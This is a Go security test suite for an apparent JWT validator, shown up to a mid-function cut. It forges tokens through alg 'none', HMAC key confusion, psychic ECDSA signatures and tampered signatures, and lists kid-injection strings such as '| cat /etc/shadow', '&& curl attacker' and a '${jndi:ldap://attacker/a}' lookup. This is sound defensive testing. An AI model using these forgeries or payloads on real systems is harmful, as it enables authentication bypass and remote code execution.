package validator_test

// The security suite: one named case per attack, grouped in families, each
// asserting the exact error class (and reason) and how far the token got:
// tokens refused before key selection cost no key lookup, no JWKS fetch
// and no signature check (see secEnv.check). SECURITY.md maps the families
// to these tests.

import (
	"context"
	"crypto"
	"crypto/ecdsa"
	"crypto/hmac"
	"crypto/rand"
	"crypto/rsa"
	"crypto/sha256"
	"crypto/sha512"
	"crypto/x509"
	"crypto/x509/pkix"
	"encoding/asn1"
	"encoding/base64"
	"encoding/pem"
	"fmt"
	"hash"
	"math/big"
	mrand "math/rand/v2"
	"net/http"
	"net/http/httptest"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/apiguard/apiguard/internal/testkit"
	"github.com/apiguard/apiguard/validator"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

var b64url = base64.RawURLEncoding

// secCase is one attack: a token and the exact outcome.
type secCase struct {
	name   string
	token  string
	want   error // nil: the token is accepted (documented behaviour)
	reason string
	reach  secReach
}

func (e *secEnv) run(t *testing.T, cases []secCase) {
	t.Helper()
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			if tc.want == nil {
				e.accept(t, tc.token)
				return
			}
			e.check(t, tc.token, tc.want, tc.reason, tc.reach)
		})
	}
}

// hdr is the JSON of a JOSE header.
func hdr(alg, kid string) string {
	return `{"alg":` + js(alg) + `,"typ":"JWT","kid":` + js(kid) + `}`
}

// body returns a claims set at the env's clock: the default members, minus
// those named in drop, then the raw members in extra.
func (e *secEnv) body(drop []string, extra ...string) string {
	now := e.clock.Now().Unix()
	members := [][2]string{
		{"iss", js(e.iss.URL)},
		{"sub", `"auth0|u1"`},
		{"aud", js(testkit.DefaultAudience)},
		{"iat", fmt.Sprint(now)},
		{"exp", fmt.Sprint(now + 3600)},
		{"azp", `"test-client"`},
		{"scope", `"read:contacts"`},
	}
	var parts []string
	for _, m := range members {
		if !contains(drop, m[0]) {
			parts = append(parts, js(m[0])+":"+m[1])
		}
	}
	return "{" + strings.Join(append(parts, extra...), ",") + "}"
}

// js is s as a JSON string.
func js(s string) string { return string(secJSON(s)) }

// tok signs the env's default claims under header with k.
func (e *secEnv) tok(k *testkit.Key, header map[string]any) string {
	return (&testkit.Token{Header: header, Claims: e.claims(), Key: k}).Sign()
}

func contains(list []string, s string) bool {
	for _, x := range list {
		if x == s {
			return true
		}
	}
	return false
}

// signed signs payload with the RS256 signing key under a regular header.
func (e *secEnv) signed(payload string) string {
	return e.raw(e.rsa, hdr("RS256", "rsa-1"), payload)
}

// withSig replaces the signature segment of token with f(signature).
func withSig(token string, f func(sig []byte) []byte) string {
	h, p, s := testkit.Segments(token)
	sig, err := b64url.DecodeString(s)
	if err != nil {
		panic(err)
	}
	return h + "." + p + "." + b64url.EncodeToString(f(append([]byte(nil), sig...)))
}

func flip(i int, bit byte) func([]byte) []byte {
	return func(b []byte) []byte {
		if i < 0 {
			i += len(b)
		}
		b[i] ^= bit
		return b
	}
}

// hmacToken signs header and payload with HMAC-SHA-x and secret, as an
// attacker holding only public material would.
func hmacToken(alg string, secret []byte, header, payload string) string {
	var h func() hash.Hash
	switch alg {
	case "HS256":
		h = sha256.New
	case "HS384":
		h = sha512.New384
	default:
		h = sha512.New
	}
	input := b64url.EncodeToString([]byte(header)) + "." + b64url.EncodeToString([]byte(payload))
	m := hmac.New(h, secret)
	m.Write([]byte(input))
	return input + "." + b64url.EncodeToString(m.Sum(nil))
}

func TestSecurityAlgNone(t *testing.T) {
	e := newSecEnv(t)
	payload := e.body(nil)
	real := e.signed(payload)
	_, _, realSig := testkit.Segments(real)
	var cases []secCase
	for _, alg := range []string{"none", "None", "NONE", "nOnE", "NoNe", "nONE", "none ", " none", "none\t", "none\u0000", "none\n", "ｎｏｎｅ", "null"} {
		for _, sig := range []struct{ name, sig string }{{"empty signature", ""}, {"real RS256 signature", realSig}, {"junk signature", "AAAA"}} {
			h := b64url.EncodeToString([]byte(hdr(alg, "rsa-1")))
			p := b64url.EncodeToString([]byte(payload))
			cases = append(cases, secCase{fmt.Sprintf("alg %q, %s", alg, sig.name), h + "." + p + "." + sig.sig, validator.ErrAlgorithm, rAlg, noLookup})
		}
	}
	cases = append(cases,
		secCase{"alg none, JSON-escaped (\\u006eone)", e.raw(nil, `{"alg":"\u006eone","typ":"JWT","kid":"rsa-1"}`, payload), validator.ErrAlgorithm, rAlg, noLookup},
		secCase{"alg none without kid", e.raw(nil, `{"alg":"none","typ":"JWT"}`, payload), validator.ErrAlgorithm, rAlg, noLookup},
		secCase{"alg none without typ", e.raw(nil, `{"alg":"none"}`, payload), validator.ErrAlgorithm, rAlg, noLookup},
		secCase{"alg none, no signature segment", strings.TrimSuffix(e.raw(nil, `{"alg":"none"}`, payload), "."), validator.ErrMalformed, rSegments, noLookup},
	)
	e.run(t, cases)

	t.Run("the allow-list cannot hold none or HS*", func(t *testing.T) {
		for _, algs := range [][]string{{"none"}, {"None"}, {"RS256", "none"}, {"HS256"}, {"HS384"}, {"HS512"}, {"RS256", "HS256"}, {"rs256"}, {"ES256K"}, {""}} {
			cfg := e.cfg
			cfg.Algorithms = algs
			cfg.Keys = &validator.KeySet{}
			_, err := validator.New(context.Background(), cfg)
			assert.Error(t, err, "New accepted Algorithms %q", algs)
		}
	})
}

func TestSecurityAlgorithmConfusion(t *testing.T) {
	for _, env := range []struct {
		name string
		opts []secOption
	}{{"JWKS with alg", nil}, {"JWKS without alg", []secOption{withoutJWKAlg()}}} {
		t.Run(env.name, func(t *testing.T) {
			e := newSecEnv(t, env.opts...)
			payload := e.body(nil)
			rsaPub := e.rsa.Private.Public().(*rsa.PublicKey)
			ecPub := e.ec256.Private.Public()
			pkixDER, err := x509.MarshalPKIXPublicKey(rsaPub)
			require.NoError(t, err)
			ecPKIX, err := x509.MarshalPKIXPublicKey(ecPub)
			require.NoError(t, err)
			pkcs1 := x509.MarshalPKCS1PublicKey(rsaPub)
			secrets := []struct {
				name   string
				secret []byte
			}{
				{"RSA public key, PKIX PEM", pem.EncodeToMemory(&pem.Block{Type: "PUBLIC KEY", Bytes: pkixDER})},
				{"RSA public key, PKIX PEM without final newline", []byte(strings.TrimSpace(string(pem.EncodeToMemory(&pem.Block{Type: "PUBLIC KEY", Bytes: pkixDER}))))},
				{"RSA public key, PKCS#1 PEM", pem.EncodeToMemory(&pem.Block{Type: "RSA PUBLIC KEY", Bytes: pkcs1})},
				{"RSA public key, PKIX DER", pkixDER},
				{"RSA public key, PKCS#1 DER", pkcs1},
				{"RSA public key, JWK", secJSON(e.rsa.JWK())},
				{"the whole JWKS", e.iss.JWKS()},
				{"RSA modulus bytes", rsaPub.N.Bytes()},
				{"EC public key, PKIX PEM", pem.EncodeToMemory(&pem.Block{Type: "PUBLIC KEY", Bytes: ecPKIX})},
			}
			var cases []secCase
			for _, alg := range []string{"HS256", "HS384", "HS512"} {
				for _, s := range secrets {
					cases = append(cases, secCase{alg + " keyed with the " + s.name, hmacToken(alg, s.secret, hdr(alg, "rsa-1"), payload), validator.ErrAlgorithm, rAlg, noLookup})
				}
			}
			cases = append(cases,
				secCase{"HS256 keyed with the RSA key, no kid", hmacToken("HS256", pkixDER, `{"alg":"HS256","typ":"JWT"}`, payload), validator.ErrAlgorithm, rAlg, noLookup},
			)
			// Swaps: a genuine signature of one algorithm, presented
			// under the kid of a key of another type or curve.
			swap := func(alg, victimKid string, signer *testkit.Key) string {
				return (&testkit.Token{
					Header: map[string]any{"alg": alg, "typ": "JWT", "kid": victimKid},
					Claims: e.claims(), Key: signer,
				}).Sign()
			}
			for _, s := range []struct {
				name, alg, kid string
				signer         *testkit.Key
			}{
				{"ES256 header, RSA key", "ES256", "rsa-1", e.ec256},
				{"ES512 header, RSA key", "ES512", "rsa-1", e.ec521},
				{"EdDSA header, RSA key", "EdDSA", "rsa-1", e.ed25519},
				{"RS256 header, P-256 key", "RS256", "ec-256", e.rsa},
				{"RS256 header, Ed25519 key", "RS256", "ed-1", e.rsa},
				{"EdDSA header, P-256 key", "EdDSA", "ec-256", e.ed25519},
				{"ES256 header, Ed25519 key", "ES256", "ed-1", e.ec256},
				{"ES384 header, P-256 key", "ES384", "ec-256", e.ec384},
				{"ES256 header, P-384 key", "ES256", "ec-384", e.ec256},
				{"ES512 header, P-384 key", "ES512", "ec-384", e.ec521},
				{"ES256 header, P-521 key", "ES256", "ec-521", e.ec256},
			} {
				cases = append(cases, secCase{s.name, swap(s.alg, s.kid, s.signer), validator.ErrSignature, rKeyMismatch, lookup})
			}
			// Algorithms the package supports but this validator does
			// not allow, genuinely signed.
			for _, alg := range []string{"PS256", "PS384", "PS512", "RS384", "RS512"} {
				k := secKey(t, "rsa-2048.pem", "rsa-1", alg)
				cases = append(cases, secCase{alg + " not in the allow-list", e.mint(testkit.WithKey(k)), validator.ErrAlgorithm, rAlg, noLookup})
			}
			// Not algorithms at all, or not spelled as the allow-list does.
			for _, alg := range []string{"rs256", "Rs256", "RS256 ", " RS256", "RS256\u0000", "RS 256", "RS1", "ES256K", "Ed25519", "ed25519", "EDDSA", "RSA-OAEP", "dir", "A256GCM", "PS256\n", "ＲＳ256"} {
				cases = append(cases, secCase{fmt.Sprintf("alg %q", alg), e.raw(e.rsa, hdr(alg, "rsa-1"), payload), validator.ErrAlgorithm, rAlg, noLookup})
			}
			// alg missing or not a string.
			for _, h := range []struct{ name, header string }{
				{"alg missing", `{"typ":"JWT","kid":"rsa-1"}`},
				{"alg null", `{"alg":null,"typ":"JWT","kid":"rsa-1"}`},
				{"alg empty", `{"alg":"","typ":"JWT","kid":"rsa-1"}`},
				{"alg a number", `{"alg":256,"typ":"JWT","kid":"rsa-1"}`},
				{"alg an array", `{"alg":["RS256"],"typ":"JWT","kid":"rsa-1"}`},
				{"alg an object", `{"alg":{"name":"RS256"},"typ":"JWT","kid":"rsa-1"}`},
				{"alg true", `{"alg":true,"typ":"JWT","kid":"rsa-1"}`},
			} {
				cases = append(cases, secCase{h.name, e.raw(e.rsa, h.header, payload), validator.ErrAlgorithm, rNoAlg, noLookup})
			}
			// Spellings of the alg member itself.
			for _, h := range []struct{ name, header string }{
				{"duplicate alg (RS256, none)", `{"alg":"RS256","alg":"none","typ":"JWT","kid":"rsa-1"}`},
				{"duplicate alg (none, RS256)", `{"alg":"none","alg":"RS256","typ":"JWT","kid":"rsa-1"}`},
				{"ALG beside alg", `{"alg":"RS256","ALG":"none","typ":"JWT","kid":"rsa-1"}`},
				{"Alg instead of alg", `{"Alg":"RS256","typ":"JWT","kid":"rsa-1"}`},
				{"escaped alg name", `{"\u0061lg":"RS256","typ":"JWT","kid":"rsa-1"}`},
			} {
				cases = append(cases, secCase{h.name, e.raw(e.rsa, h.header, payload), validator.ErrMalformed, rHeaderJSON, noLookup})
			}
			e.run(t, cases)
		})
	}
}

func TestSecurityKeySelection(t *testing.T) {
	e := newSecEnv(t)
	payload := e.body(nil)

	// Attacker-controlled key locations: prove they are never contacted.
	var hits atomic.Int64
	attacker := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		hits.Add(1)
		w.Header().Set("Content-Type", "application/json")
		w.Write(secJSON(map[string]any{"keys": []any{e.attacker.JWK()}}))
	}))
	defer attacker.Close()
	defer func() { assert.Zero(t, hits.Load(), "the attacker's server was contacted") }()
	cert := selfSignedCert(t, e.attacker)

	signedWith := e.tok
	h := func(kv ...any) map[string]any {
		m := map[string]any{"alg": "RS256", "typ": "JWT"}
		for i := 0; i < len(kv); i += 2 {
			m[kv[i].(string)] = kv[i+1]
		}
		return m
	}
	var cases []secCase
	for _, kid := range []string{
		"../../dev/null", "../../../../../../etc/passwd", "/dev/null", "file:///etc/passwd", `..\..\windows\win.ini`,
		"' OR 1=1--", `" OR ""="`, "1; DROP TABLE keys;--", "rsa-1' --",
		"$(reboot)", "`reboot`", "; reboot", "| cat /etc/shadow", "&& curl attacker",
		"rsa-1\r\nX-Injected: true", "rsa-1\n", "\r\n\r\nGET / HTTP/1.1", "rsa-1\u0000", "%00", "rsa-1%00", "rsa-1%0d%0a",
		"http://127.0.0.1:1/jwks.json", "{{7*7}}", "${jndi:ldap://attacker/a}", "<script>alert(1)</script>",
		"RSA-1", "Rsa-1", "rsa-1 ", " rsa-1", "rsa_1", "rsa‐1", "ｒｓａ-1",
		strings.Repeat("k", 256),
	} {
		cases = append(cases, secCase{fmt.Sprintf("kid %.40q", kid), signedWith(e.rsa, h("kid", kid)), validator.ErrUnknownKey, rKid, mayFetch})
	}
	cases = append(cases,
		secCase{"kid of 257 bytes", signedWith(e.rsa, h("kid", strings.Repeat("k", 257))), validator.ErrUnknownKey, rKidLen, noLookup},
		secCase{"kid of 4000 bytes", signedWith(e.rsa, h("kid", strings.Repeat("../", 1333)+"x")), validator.ErrUnknownKey, rKidLen, noLookup},
		secCase{"kid a number", signedWith(e.rsa, h("kid", 1)), validator.ErrMalformed, rHeaderJSON, noLookup},
		secCase{"kid true", signedWith(e.rsa, h("kid", true)), validator.ErrMalformed, rHeaderJSON, noLookup},
		secCase{"kid an array", signedWith(e.rsa, h("kid", []string{"rsa-1"})), validator.ErrMalformed, rHeaderJSON, noLookup},
		secCase{"kid an object", signedWith(e.rsa, h("kid", map[string]string{"$ne": ""})), validator.ErrMalformed, rHeaderJSON, noLookup},
		secCase{"kid null", signedWith(e.rsa, h("kid", nil)), validator.ErrMalformed, rHeaderJSON, noLookup},
		secCase{"kid missing, several keys", signedWith(e.rsa, h()), validator.ErrUnknownKey, rNoKid, lookup},
		secCase{"kid empty, several keys", signedWith(e.rsa, h("kid", "")), validator.ErrUnknownKey, rNoKid, lookup},
		secCase{"KID instead of kid", signedWith(e.rsa, h("KID", "rsa-1")), validator.ErrMalformed, rHeaderJSON, noLookup},
		secCase{"duplicate kid", e.raw(e.rsa, `{"alg":"RS256","typ":"JWT","kid":"nope","kid":"rsa-1"}`, payload), validator.ErrMalformed, rHeaderJSON, noLookup},
		secCase{"kid of another key type", signedWith(e.rsa, h("kid", "ec-256")), validator.ErrSignature, rKeyMismatch, lookup},
		secCase{"kid of the same RSA key pinned to PS256", signedWith(e.rsa, h("kid", "rsa-ps")), validator.ErrSignature, rKeyMismatch, lookup},
		secCase{"real kid, attacker's key", signedWith(e.attacker, h("kid", "rsa-1")), validator.ErrSignature, rBadSig, lookup},
		secCase{"attacker's kid and key", signedWith(e.attacker, h("kid", "attacker-1")), validator.ErrUnknownKey, rKid, mayFetch},

		// Headers that name keys or certificates: refused whatever they
		// point at, before any lookup.
		secCase{"jku at the attacker", signedWith(e.attacker, h("kid", "attacker-1", "jku", attacker.URL+"/jwks.json")), validator.ErrHeader, rHeader("jku"), noLookup},
		secCase{"jku at the attacker, real kid", signedWith(e.attacker, h("kid", "rsa-1", "jku", attacker.URL+"/jwks.json")), validator.ErrHeader, rHeader("jku"), noLookup},
		secCase{"jku at the real JWKS, real signature", signedWith(e.rsa, h("kid", "rsa-1", "jku", e.iss.JWKSURL())), validator.ErrHeader, rHeader("jku"), noLookup},
		secCase{"jku null", signedWith(e.rsa, h("kid", "rsa-1", "jku", nil)), validator.ErrHeader, rHeader("jku"), noLookup},
		secCase{"JKU instead of jku", signedWith(e.attacker, h("kid", "attacker-1", "JKU", attacker.URL)), validator.ErrMalformed, rHeaderJSON, noLookup},
		secCase{"x5u at the attacker", signedWith(e.attacker, h("kid", "attacker-1", "x5u", attacker.URL+"/cert.pem")), validator.ErrHeader, rHeader("x5u"), noLookup},
		secCase{"x5u at the attacker, real kid", signedWith(e.attacker, h("kid", "rsa-1", "x5u", attacker.URL+"/cert.pem")), validator.ErrHeader, rHeader("x5u"), noLookup},
		secCase{"jwk of the attacker, no kid", signedWith(e.attacker, h("jwk", e.attacker.JWK())), validator.ErrHeader, rHeader("jwk"), noLookup},
		secCase{"jwk of the attacker, real kid", signedWith(e.attacker, h("kid", "rsa-1", "jwk", e.attacker.JWK())), validator.ErrHeader, rHeader("jwk"), noLookup},
		secCase{"jwk of the real key, real signature", signedWith(e.rsa, h("kid", "rsa-1", "jwk", e.rsa.JWK())), validator.ErrHeader, rHeader("jwk"), noLookup},
		secCase{"Jwk instead of jwk", signedWith(e.attacker, h("Jwk", e.attacker.JWK())), validator.ErrMalformed, rHeaderJSON, noLookup},
		secCase{"x5c of the attacker", signedWith(e.attacker, h("x5c", []string{cert})), validator.ErrHeader, rHeader("x5c"), noLookup},
		secCase{"x5c of the attacker, real kid", signedWith(e.attacker, h("kid", "rsa-1", "x5c", []string{cert})), validator.ErrHeader, rHeader("x5c"), noLookup},
		secCase{"x5c empty", signedWith(e.rsa, h("kid", "rsa-1", "x5c", []string{})), validator.ErrHeader, rHeader("x5c"), noLookup},

		// Processing we do not do (RFC 7515 section 4.1.11, RFC 7797,
		// RFC 8725 section 3.11).
		secCase{"crit [exp]", signedWith(e.rsa, h("kid", "rsa-1", "crit", []string{"exp"})), validator.ErrHeader, rHeader("crit"), noLookup},
		secCase{"crit []", signedWith(e.rsa, h("kid", "rsa-1", "crit", []string{})), validator.ErrHeader, rHeader("crit"), noLookup},
		secCase{"crit [b64] with b64 false", signedWith(e.rsa, h("kid", "rsa-1", "crit", []string{"b64"}, "b64", false)), validator.ErrHeader, rHeader("crit"), noLookup},
		secCase{"b64 false", signedWith(e.rsa, h("kid", "rsa-1", "b64", false)), validator.ErrHeader, rHeader("b64"), noLookup},
		secCase{"b64 true", signedWith(e.rsa, h("kid", "rsa-1", "b64", true)), validator.ErrHeader, rHeader("b64"), noLookup},
		secCase{"cty JWT (nested)", signedWith(e.rsa, h("kid", "rsa-1", "cty", "JWT")), validator.ErrHeader, rHeader("nested JWT (cty)"), noLookup},
		secCase{"cty jwt", signedWith(e.rsa, h("kid", "rsa-1", "cty", "jwt")), validator.ErrHeader, rHeader("nested JWT (cty)"), noLookup},
		secCase{"cty application/jwt", signedWith(e.rsa, h("kid", "rsa-1", "cty", "application/jwt")), validator.ErrHeader, rHeader("nested JWT (cty)"), noLookup},
		secCase{"cty Application/JWT", signedWith(e.rsa, h("kid", "rsa-1", "cty", "Application/JWT")), validator.ErrHeader, rHeader("nested JWT (cty)"), noLookup},
		secCase{"cty application/jwt with parameters", signedWith(e.rsa, h("kid", "rsa-1", "cty", "application/jwt; charset=utf-8")), validator.ErrHeader, rHeader("nested JWT (cty)"), noLookup},
		secCase{"cty JWT with spaces", signedWith(e.rsa, h("kid", "rsa-1", "cty", " JWT ")), validator.ErrHeader, rHeader("nested JWT (cty)"), noLookup},

		// Documented: hints we ignore, with a genuine signature.
		secCase{"x5t is a hint only: ignored", signedWith(e.rsa, h("kid", "rsa-1", "x5t", "bm90LWEtdGh1bWJwcmludA")), nil, "", lookup},
		secCase{"unknown header parameter: ignored", signedWith(e.rsa, h("kid", "rsa-1", "x-custom", map[string]any{"a": 1})), nil, "", lookup},
		secCase{"cty other than JWT: ignored", signedWith(e.rsa, h("kid", "rsa-1", "cty", "application/json")), nil, "", lookup},
	)
	e.run(t, cases)

	t.Run("one key, no kid", func(t *testing.T) {
		one := newSecEnv(t, func(e *secEnv) { e.iss.SetKeys(e.rsa) })
		one.run(t, []secCase{
			{"no kid picks the only key", one.tok(one.rsa, h()), nil, "", lookup},
			{"no kid, attacker's signature", one.tok(one.attacker, h()), validator.ErrSignature, rBadSig, lookup},
			{"no kid, ES256 header", one.tok(one.ec256, map[string]any{"alg": "ES256", "typ": "JWT"}), validator.ErrSignature, rKeyMismatch, lookup},
		})
	})
	t.Run("kid shared by two keys", func(t *testing.T) {
		amb := newSecEnv(t, func(e *secEnv) { e.iss.SetKeys(e.rsa, e.attacker) })
		amb.run(t, []secCase{
			{"ambiguous kid, real key", amb.tok(amb.rsa, h("kid", "rsa-1")), validator.ErrUnknownKey, "kid names more than one key", lookup},
			{"ambiguous kid, attacker's key", amb.tok(amb.attacker, h("kid", "rsa-1")), validator.ErrUnknownKey, "kid names more than one key", lookup},
		})
	})
}

// selfSignedCert returns a base64 (standard, as x5c wants) self-signed
// certificate for k.
func selfSignedCert(t *testing.T, k *testkit.Key) string {
	t.Helper()
	tmpl := &x509.Certificate{
		SerialNumber: big.NewInt(1),
		Subject:      pkix.Name{CommonName: "attacker"},
		NotBefore:    secNow.Add(-time.Hour),
		NotAfter:     secNow.Add(time.Hour),
	}
	der, err := x509.CreateCertificate(rand.Reader, tmpl, tmpl, k.Private.Public(), k.Private)
	require.NoError(t, err)
	return base64.StdEncoding.EncodeToString(der)
}

func TestSecuritySignatureForgery(t *testing.T) {
	e := newSecEnv(t)
	var cases []secCase
	for _, k := range []*testkit.Key{e.rsa, e.ec256, e.ec384, e.ec521, e.ed25519} {
		good := e.mint(testkit.WithKey(k))
		other := e.mint(testkit.WithKey(k), testkit.WithSubject("auth0|someone-else"))
		h, p, s := testkit.Segments(good)
		_, _, otherSig := testkit.Segments(other)
		alg := k.Algorithm
		cases = append(cases,
			secCase{alg + ": stripped signature (ends in '.')", h + "." + p + ".", validator.ErrSignature, rBadSig, lookup},
			secCase{alg + ": no signature segment", h + "." + p, validator.ErrMalformed, rSegments, noLookup},
			secCase{alg + ": truncated by one byte", withSig(good, func(b []byte) []byte { return b[:len(b)-1] }), validator.ErrSignature, rBadSig, lookup},
			secCase{alg + ": truncated to half", withSig(good, func(b []byte) []byte { return b[:len(b)/2] }), validator.ErrSignature, rBadSig, lookup},
			secCase{alg + ": one byte appended", withSig(good, func(b []byte) []byte { return append(b, 0) }), validator.ErrSignature, rBadSig, lookup},
			secCase{alg + ": one zero byte prepended", withSig(good, func(b []byte) []byte { return append([]byte{0}, b...) }), validator.ErrSignature, rBadSig, lookup},
			secCase{alg + ": signature doubled", withSig(good, func(b []byte) []byte { return append(b, b...) }), validator.ErrSignature, rBadSig, lookup},
			secCase{alg + ": all zeros", withSig(good, func(b []byte) []byte { return make([]byte, len(b)) }), validator.ErrSignature, rBadSig, lookup},
			secCase{alg + ": all ones", withSig(good, func(b []byte) []byte { return []byte(strings.Repeat("\xff", len(b))) }), validator.ErrSignature, rBadSig, lookup},
			secCase{alg + ": first bit flipped", withSig(good, flip(0, 0x80)), validator.ErrSignature, rBadSig, lookup},
			secCase{alg + ": middle bit flipped", withSig(good, flip(len(s)*3/8, 0x10)), validator.ErrSignature, rBadSig, lookup},
			secCase{alg + ": last bit flipped", withSig(good, flip(-1, 0x01)), validator.ErrSignature, rBadSig, lookup},
			secCase{alg + ": signature of another token", h + "." + p + "." + otherSig, validator.ErrSignature, rBadSig, lookup},
			secCase{alg + ": payload of another token", h + "." + strings.Split(other, ".")[1] + "." + s, validator.ErrSignature, rBadSig, lookup},
			secCase{alg + ": genuine (control)", good, nil, "", lookup},
		)
	}

	// Bit flips in the signed header and payload that keep them valid and
	// meaningful: only the signature can catch them.
	header := hdr("RS256", "rsa-1")
	payload := e.body(nil)
	good := e.signed(payload)
	_, _, sig := testkit.Segments(good)
	retarget := func(header, payload string) string {
		return b64url.EncodeToString([]byte(header)) + "." + b64url.EncodeToString([]byte(payload)) + "." + sig
	}
	cases = append(cases,
		secCase{"header bit flip: typ JWT -> jWT", retarget(strings.Replace(header, `"JWT"`, `"jWT"`, 1), payload), validator.ErrSignature, rBadSig, lookup},
		secCase{"header: whitespace added", retarget(strings.Replace(header, `,`, `, `, 1), payload), validator.ErrSignature, rBadSig, lookup},
		secCase{"payload bit flip: sub u1 -> u0", retarget(header, strings.Replace(payload, "auth0|u1", "auth0|u0", 1)), validator.ErrSignature, rBadSig, lookup},
		secCase{"payload bit flip: scope read -> rEad", retarget(header, strings.Replace(payload, "read:contacts", "rEad:contacts", 1)), validator.ErrSignature, rBadSig, lookup},
		secCase{"payload: admin scope added", retarget(header, strings.Replace(payload, "read:contacts", "read:contacts admin", 1)), validator.ErrSignature, rBadSig, lookup},
		secCase{"payload: exp extended", retarget(header, strings.Replace(payload, fmt.Sprint(secNow.Unix()+3600), fmt.Sprint(secNow.Unix()+360000), 1)), validator.ErrSignature, rBadSig, lookup},
	)

	// RSA: signature values out of range.
	n := e.rsa.Private.Public().(*rsa.PublicKey).N
	cases = append(cases,
		secCase{"RS256: signature = modulus", withSig(good, func([]byte) []byte { return n.Bytes() }), validator.ErrSignature, rBadSig, lookup},
		secCase{"RS256: signature = modulus + 1", withSig(good, func([]byte) []byte { return new(big.Int).Add(n, big.NewInt(1)).Bytes() }), validator.ErrSignature, rBadSig, lookup},
		secCase{"RS256: signature = 1", withSig(good, func(b []byte) []byte { z := make([]byte, len(b)); z[len(z)-1] = 1; return z }), validator.ErrSignature, rBadSig, lookup},
	)

	// ECDSA psychic signatures (CVE-2022-21449): r and s from {0, 1, n-1, n}.
	for _, k := range []*testkit.Key{e.ec256, e.ec384, e.ec521} {
		curve := k.Private.Public().(*ecdsa.PublicKey).Curve
		order := curve.Params().N
		size := (curve.Params().BitSize + 7) / 8
		values := map[string]*big.Int{
			"0": big.NewInt(0), "1": big.NewInt(1),
			"n-1": new(big.Int).Sub(order, big.NewInt(1)), "n": order,
		}
		good := e.mint(testkit.WithKey(k))
		for _, rn := range []string{"0", "1", "n-1", "n"} {
			for _, sn := range []string{"0", "1", "n-1", "n"} {
				sig := make([]byte, 2*size)
				values[rn].FillBytes(sig[:size])
				values[sn].FillBytes(sig[size:])
				cases = append(cases, secCase{fmt.Sprintf("%s psychic signature r=%s s=%s", k.Algorithm, rn, sn), withSig(good, func([]byte) []byte { return sig }), validator.ErrSignature, rBadSig, lookup})
			}
		}
		// The same signature, DER-encoded (as crypto/ecdsa and X.509
		// write it): JWS wants raw r||s (RFC 7518 section 3.4).
		cases = append(cases, secCase{k.Algorithm + ": valid signature in DER", withSig(good, func(b []byte) []byte {
			der, err := asn1.Marshal(struct{ R, S *big.Int }{new(big.Int).SetBytes(b[:size]), new(big.Int).SetBytes(b[size:])})
			require.NoError(t, err)
			return der
		}), validator.ErrSignature, rBadSig, lookup})
		cases = append(cases, secCase{k.Algorithm + ": r||s with a byte of padding each", withSig(good, func(b []byte) []byte {
			return append(append([]byte{0}, b[:size]...), append([]byte{0}, b[size:]...)...)
		}), validator.ErrSignature, rBadSig, lookup})
		cases = append(cases, secCase{k.Algorithm + ": r and s swapped", withSig(good, func(b []byte) []byte {
			return append(append([]byte(nil), b[size:]...), b[:size]...)
		}), validator.ErrSignature, rBadSig, lookup})
		// Documented: ECDSA signatures are malleable, and JWS has no
		// low-s rule, so (r, n-s) verifies too. Tokens are identified by
		// jti, never by their bytes.
		cases = append(cases, secCase{k.Algorithm + ": (r, n-s) is also valid ECDSA (documented)", withSig(good, func(b []byte) []byte {
			s := new(big.Int).SetBytes(b[size:])
			new(big.Int).Sub(order, s).FillBytes(b[size:])
			return b
		}), nil, "", lookup})
	}

	// Ed25519: s + L is the same scalar, but not canonical (RFC 8032
	// section 5.1.7 requires s < L).
	edGood := e.mint(testkit.WithKey(e.ed25519))
	cases = append(cases, secCase{"EdDSA: non-canonical s (s + L)", withSig(edGood, func(b []byte) []byte {
		l, _ := new(big.Int).SetString("7237005577332262213973186563042994240857116359379907606001950938285454250989", 10)
		s := new(big.Int).SetBytes(reverse(b[32:]))
		s.Add(s, l)
		out := make([]byte, 32)
		s.FillBytes(out)
		return append(b[:32:32], reverse(out)...)
	}), validator.ErrSignature, rBadSig, lookup})
	e.run(t, cases)

	t.Run("PSS salt length must equal the hash length", func(t *testing.T) {
		ps := newSecEnv(t, withConfig(func(c *validator.Config) { c.Algorithms = []string{"PS256"} }))
		priv := ps.rsaPS.Private.(*rsa.PrivateKey)
		signPSS := func(salt int) string {
			input := b64url.EncodeToString([]byte(hdr("PS256", "rsa-ps"))) + "." + b64url.EncodeToString([]byte(ps.body(nil)))
			digest := sha256.Sum256([]byte(input))
			sig, err := rsa.SignPSS(rand.Reader, priv, crypto.SHA256, digest[:], &rsa.PSSOptions{SaltLength: salt})
			require.NoError(t, err)
			return input + "." + b64url.EncodeToString(sig)
		}
		ps.run(t, []secCase{
			{"salt 32 (= SHA-256 length)", signPSS(32), nil, "", lookup},
			{"salt 0", signPSS(0), validator.ErrSignature, rBadSig, lookup},
			{"salt 20", signPSS(20), validator.ErrSignature, rBadSig, lookup},
			{"salt 64", signPSS(64), validator.ErrSignature, rBadSig, lookup},
			{"maximal salt", signPSS(rsa.PSSSaltLengthAuto), validator.ErrSignature, rBadSig, lookup},
			{"RS256 signature under PS256", ps.raw(secKey(t, "rsa-2048.pem", "rsa-ps", "RS256"), hdr("PS256", "rsa-ps"), ps.body(nil)), validator.ErrSignature, rBadSig, lookup},
		})
	})
}

func reverse(b []byte) []byte {
	out := make([]byte, len(b))
	for i, c := range b {
		out[len(b)-1-i] = c
	}
	return out
}

func TestSecurityEncoding(t *testing.T) {
	e := newSecEnv(t)
	// A token whose three segments contain '-' and '_' and whose lengths
	// are not multiples of 4, so that every trick below applies to each.
	var good string
	for pad := 0; pad < 64 && good == ""; pad++ {
		tok := e.raw(e.rsa, `{"alg":"RS256","typ":"JWT","kid":"rsa-1","x":"~~~???`+strings.Repeat("~", pad)+`"}`,
			e.body(nil, `"https://example.com/x":"~~~???`+strings.Repeat("?", pad)+`"`))
		h, p, s := testkit.Segments(tok)
		ok := true
		for _, seg := range []string{h, p, s} {
			ok = ok && len(seg)%4 >= 2 && strings.ContainsAny(seg, "-_")
		}
		if ok {
			good = tok
		}
	}
	require.NotEmpty(t, good, "no suitable token")
	e.accept(t, good)
	h, p, s := testkit.Segments(good)
	segs := []string{h, p, s}
	names := []string{"header", "payload", "signature"}
	join := func(i int, seg string) string {
		out := append([]string(nil), segs...)
		out[i] = seg
		return strings.Join(out, ".")
	}
	stdPad := func(seg string) string {
		b, err := b64url.DecodeString(seg)
		require.NoError(t, err)
		return base64.URLEncoding.EncodeToString(b)
	}
	toStd := func(seg string) string {
